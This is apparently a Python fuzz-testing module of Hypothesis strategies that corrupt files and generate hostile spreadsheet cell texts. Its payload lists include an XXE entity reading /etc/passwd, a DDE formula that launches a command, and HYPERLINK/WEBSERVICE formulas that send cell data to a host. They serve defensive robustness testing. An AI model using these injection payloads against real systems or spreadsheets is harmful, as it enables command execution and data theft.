"""Mutations of a valid file, as hypothesis strategies: bytes cut, flipped, inserted or
deleted, text in another encoding, and hostile cell texts (formulas, control characters,
bidi overrides, megabytes). Each mutation has a name, so a failing example says what it
did."""

from __future__ import annotations

import base64
import codecs
import random
from collections.abc import Callable
from dataclasses import dataclass

from hypothesis import strategies as st

HOSTILE_BYTES = (
    b"\x00",
    b"\x00\x00\x00\x00",
    b"\xff\xfe",
    b"\xfe\xff",
    b"\xef\xbb\xbf",
    b"\xe2\x80\xae",  # U+202E right-to-left override
    b"\x1b[2J",
    b'"',
    b"\r",
    b"\n\n\n",
    b";;;;;;;;",
    b"\xc3",  # half a UTF-8 letter
    b"\x80\x81\x8d\x8f\x90\x9d",  # undefined in Windows-1252
    b"PK\x03\x04",
    b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
)
FORMULAS = (
    "=1+1",
    "=SUM(A1:A9)",
    "+31 6 12345678",
    "-2",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"klik")',
    "\t=1+1",
    "\r=1+1",
    '=WEBSERVICE("http://example.org")',
)
CONTROL = "".join(chr(c) for c in range(32) if chr(c) not in "\t\n\r") + "\x7f"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
ODD = "\u2028\u2029\u00a0\u200b\ufeff\ufffd\uffff"
TEXT_ENCODINGS = ("utf-16-le", "utf-16-be", "utf-16", "utf-32", "latin-1", "cp1252", "cp850")


@dataclass(frozen=True)
class Mutation:
    name: str
    apply: Callable[[bytes], bytes]

    def __repr__(self) -> str:
        return self.name


def _truncate(fraction: float) -> Mutation:
    return Mutation(f"truncate({fraction:.3f})", lambda data: data[: int(len(data) * fraction)])


def _flip(positions: list[float], masks: list[int]) -> Mutation:
    def apply(data: bytes) -> bytes:
        changed = bytearray(data)
        for position, mask in zip(positions, masks, strict=False):
            changed[min(int(position * len(data)), len(data) - 1)] ^= mask
        return bytes(changed)

    return Mutation(f"flip({len(positions)} bytes)", apply)


def _insert(position: float, chunk: bytes, times: int) -> Mutation:
    def apply(data: bytes) -> bytes:
        at = int(position * len(data))
        return data[:at] + chunk * times + data[at:]

    return Mutation(f"insert({chunk!r}x{times} at {position:.3f})", apply)


def _delete(position: float, length: int) -> Mutation:
    def apply(data: bytes) -> bytes:
        at = int(position * len(data))
        return data[:at] + data[at + length :]

    return Mutation(f"delete({length} at {position:.3f})", apply)


def byte_mutations() -> st.SearchStrategy[Mutation]:
    """Mutations that care nothing for the format: any file may get them."""
    fractions = st.floats(0.0, 1.0, allow_nan=False)
    return st.one_of(
        st.builds(_truncate, fractions),
        st.integers(1, 24).flatmap(
            lambda n: st.builds(
                _flip,
                st.lists(fractions, min_size=n, max_size=n),
                st.lists(st.integers(1, 255), min_size=n, max_size=n),
            )
        ),
        st.builds(
            _insert,
            fractions,
            st.sampled_from(HOSTILE_BYTES) | st.binary(min_size=1, max_size=8),
            st.integers(1, 4),
        ),
        st.builds(_delete, fractions, st.integers(1, 64)),
    )


def _reencode(encoding: str, bom: bool) -> Mutation:
    def apply(data: bytes) -> bytes:
        text = data.decode("utf-8")
        mark = codecs.BOM_UTF16_LE if bom and encoding == "utf-16-le" else b""
        mark = codecs.BOM_UTF16_BE if bom and encoding == "utf-16-be" else mark
        return mark + text.encode(encoding, errors="replace")

    return Mutation(f"reencode({encoding}, bom={bom})", apply)


def _mixed(encoding: str, fraction: float) -> Mutation:
    """The first part in UTF-8, the rest in ``encoding``: two exports pasted together."""

    def apply(data: bytes) -> bytes:
        text = data.decode("utf-8")
        at = int(len(text) * fraction)
        return text[:at].encode("utf-8") + text[at:].encode(encoding, errors="replace")

    return Mutation(f"mixed(utf-8, {encoding} from {fraction:.2f})", apply)


def text_mutations() -> st.SearchStrategy[Mutation]:
    """Mutations of a UTF-8 text file: other encodings, with or without a BOM, mixed."""
    return st.one_of(
        st.builds(_reencode, st.sampled_from(TEXT_ENCODINGS), st.booleans()),
        st.builds(_mixed, st.sampled_from(TEXT_ENCODINGS), st.floats(0.0, 1.0)),
    )


def megabytes(count: int) -> str:
    """``count`` MB of letters and digits that do not compress much (a cell, not a bomb)."""
    return base64.b64encode(random.Random(count).randbytes(count * 750_000)).decode("ascii")


def hostile_texts(*, huge: bool = True) -> st.SearchStrategy[str]:
    """Cell texts an attacker or a broken export puts in a file."""
    sprinkled = st.text(
        alphabet=st.sampled_from("Zoë Ruïne" + CONTROL + BIDI + ODD), min_size=1, max_size=12
    )
    strategies = [
        st.sampled_from(FORMULAS),
        sprinkled,
        st.builds(lambda t, c: f"Zo{c}ë{t}", st.sampled_from(FORMULAS), st.sampled_from(CONTROL)),
        st.text(min_size=1, max_size=30),
        st.integers(30, 400).map(lambda n: "L" * n),
        st.integers(230, 300).map(lambda n: "a" * n + "@school.nl"),  # a valid, long address
    ]
    if huge:
        strategies.append(st.integers(1, 3).map(megabytes))
    return st.one_of(*strategies)
